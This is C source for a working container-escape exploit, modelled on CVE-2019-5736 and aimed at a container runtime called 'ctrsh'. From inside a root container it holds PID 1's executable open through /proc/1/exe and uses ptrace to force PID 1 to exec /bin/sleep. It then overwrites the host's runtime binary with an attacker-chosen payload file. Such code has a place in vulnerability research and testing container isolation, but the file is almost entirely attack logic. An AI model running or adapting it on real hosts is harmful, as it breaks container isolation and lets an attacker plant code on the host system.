#define _GNU_SOURCE
// Run as root inside a ctrsh container started with `start` (ctrsh-init is
// PID 1). Holds ctrsh-init's executable (the host's file) through
// /proc/1/exe, makes PID 1 execve a program of the container via ptrace so
// that the host file is no longer being executed, then opens the held file
// for writing: CVE-2019-5736's overwrite of the runtime's binary.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *marker = argc > 1 ? argv[1] : "OWNED-BY-CONTAINER\n";
    int exe = open("/proc/1/exe", O_PATH);
    if (exe < 0) { perror("open /proc/1/exe O_PATH"); return 1; }
    char link[256] = {0};
    readlink("/proc/1/exe", link, sizeof link - 1);
    printf("holding /proc/1/exe -> %s\n", link);
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", exe);
    int w = open(self, O_WRONLY);
    printf("write-open while PID 1 runs it: %s\n", w >= 0 ? "OK" : strerror(errno));
    if (w >= 0) close(w);

    if (ptrace(PTRACE_SEIZE, 1, 0, 0) < 0) { perror("PTRACE_SEIZE 1"); return 1; }
    if (ptrace(PTRACE_INTERRUPT, 1, 0, 0) < 0) { perror("PTRACE_INTERRUPT"); return 1; }
    int status;
    if (waitpid(1, &status, __WALL) < 0) { perror("waitpid"); return 1; }
    struct user_regs_struct r;
    ptrace(PTRACE_GETREGS, 1, 0, &r);
    long code = ptrace(PTRACE_PEEKTEXT, 1, (void *)(r.rip - 2), 0);
    if ((code & 0xffff) != 0x050f) { fprintf(stderr, "no syscall insn at rip-2 (%lx)\n", code); return 1; }
    // "/bin/sleep\0" and argv on PID 1's stack, well below its stack pointer.
    unsigned long base = (r.rsp - 4096) & ~0xfUL;
    const char path[16] = "/bin/sleep";
    const char arg1[8] = "1000";
    for (int i = 0; i < 16; i += 8) ptrace(PTRACE_POKEDATA, 1, (void *)(base + i), *(long *)(path + i));
    ptrace(PTRACE_POKEDATA, 1, (void *)(base + 16), *(long *)arg1);
    ptrace(PTRACE_POKEDATA, 1, (void *)(base + 32), (void *)base);        // argv[0]
    ptrace(PTRACE_POKEDATA, 1, (void *)(base + 40), (void *)(base + 16)); // argv[1]
    ptrace(PTRACE_POKEDATA, 1, (void *)(base + 48), 0);                   // NULL
    r.rip -= 2;
    r.rax = 59;  // execve
    r.orig_rax = -1;
    r.rdi = base;
    r.rsi = base + 32;
    r.rdx = 0;
    ptrace(PTRACE_SETREGS, 1, 0, &r);
    ptrace(PTRACE_DETACH, 1, 0, 0);
    for (int i = 0; i < 200; i++) {
        usleep(10000);
        char now[256] = {0};
        readlink("/proc/1/exe", now, sizeof now - 1);
        if (strcmp(now, link) != 0) { printf("PID 1 now runs %s\n", now); break; }
    }
    int payload = argc > 2 ? open(argv[2], O_RDONLY) : -1;
    w = open(self, payload >= 0 ? (O_WRONLY | O_TRUNC) : (O_WRONLY | O_APPEND));
    if (w < 0) { printf("write-open after the exec: %s\n", strerror(errno)); return 1; }
    ssize_t n = 0;
    if (payload >= 0) { char b[65536]; ssize_t k; while ((k = read(payload, b, sizeof b)) > 0) n += write(w, b, k); }
    else n = write(w, marker, strlen(marker));
    printf("wrote %zd bytes to the host's %s\n", n, link);
    return 0;
}
